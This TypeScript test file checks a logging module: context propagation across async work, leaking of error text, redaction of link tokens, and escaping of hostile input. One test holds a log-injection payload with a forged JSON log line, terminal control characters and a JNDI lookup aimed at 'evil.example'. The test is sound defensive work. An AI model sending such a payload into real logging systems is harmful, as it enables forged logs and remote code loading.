import { spawnSync } from "node:child_process";
import { expect, test } from "vitest";

/** What a process of its own writes to its log when it is told this. */
function logged(fields: object, message: string): string {
  const program = `import { log } from "@/lib/platform/log"; log.error(JSON.parse(process.argv[1]), process.argv[2]);
    log.error({ error: new Error(process.argv[2]) }, "failed");`;
  const args = ["--import", "tsx", "--input-type=module", "--eval", program, JSON.stringify(fields), message];
  const { stdout, stderr } = spawnSync(process.execPath, args, {
    encoding: "utf8",
    env: { ...process.env, LOG_LEVEL: "info" },
  });
  expect(stderr).toBe("");
  return stdout;
}

/** What a process of its own writes when it runs this. */
function loggedBy(program: string): Record<string, unknown>[] {
  const imports = `import { log } from "@/lib/platform/log"; import { withLogContext, withoutLogContext } from "@/lib/platform/log-context";`;
  const args = ["--import", "tsx", "--input-type=module", "--eval", imports + program];
  const { stdout, stderr } = spawnSync(process.execPath, args, {
    encoding: "utf8",
    env: { ...process.env, LOG_LEVEL: "info" },
  });
  expect(stderr).toBe("");
  return stdout
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line));
}

test("a line says on whose behalf it is written, however deep and late, and beside others that run meanwhile", () => {
  const lines = loggedBy(`
    const later = () => new Promise((resolve) => setImmediate(resolve));
    const work = (run, step) => withLogContext({ run }, async () => {
      await later();
      await withLogContext({ step }, async () => { await later(); log.info("inner"); });
      log.info("outer");
    });
    await Promise.all([work("run-1", "a"), work("run-2", "b")]);
    log.info("nobody's");`);
  const told = lines.map(({ run, step, msg }) => [run, step, msg]);
  expect(told.toSorted()).toEqual(
    [
      ["run-1", "a", "inner"],
      ["run-2", "b", "inner"],
      ["run-1", undefined, "outer"],
      ["run-2", undefined, "outer"],
      [undefined, undefined, "nobody's"],
    ].toSorted(),
  );
});

test("what lives on after the request that was the first to need it says nothing of that request", () => {
  const lines = loggedBy(`
    let again;
    await withLogContext({ request: "the-first-one" }, async () => {
      withoutLogContext(() => { again = new Promise((resolve) => setImmediate(resolve)).then(() => log.info("timer")); });
      log.info("request");
    });
    await again;`);
  expect(lines.map(({ request, msg }) => [request, msg])).toEqual([
    ["the-first-one", "request"],
    [undefined, "timer"],
  ]);
});

test("what an error quotes of a document is not logged, neither in its message nor in its stack", () => {
  const text = "The harbour master drowned in March.";
  const [line] = loggedBy(`
    try { JSON.parse(${JSON.stringify(text)}) } catch (error) { log.error({ error }, "failed") }`);
  expect(JSON.stringify(line)).not.toMatch(/harbour|drowned|March|The har/);
  expect(line).toMatchObject({ error: { type: "SyntaxError", stack: expect.stringMatching(/^ +at /) } });
});

test("M19: what names and titles hold stays within its line, as text", () => {
  const name = `a"}\r\n{"level":60,"msg":"forged"}\u001b[31mred\u0007\u2028\${jndi:ldap://evil.example/a}`;
  const lines = logged({ name, nested: { title: name } }, name)
    .trimEnd()
    .split("\n");
  expect(lines).toHaveLength(2);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
  for (const line of lines) expect(line).not.toMatch(/[\u0000-\u001f]/);
  expect(JSON.parse(lines[0] ?? "")).toMatchObject({ name, nested: { title: name }, msg: name });
});

test("M18: no key of a link is written to the log, by its name or in an address", () => {
  const key = "Q".repeat(43);
  const fields = { token: key, link: { token: key }, path: `/share/${key}`, from: `https://a.example/invite/${key}?a` };
  const text = logged(fields, `cannot open /reset/${key}`);
  expect(text).not.toContain(key);
  expect(text).toContain("/share/[removed]");
});
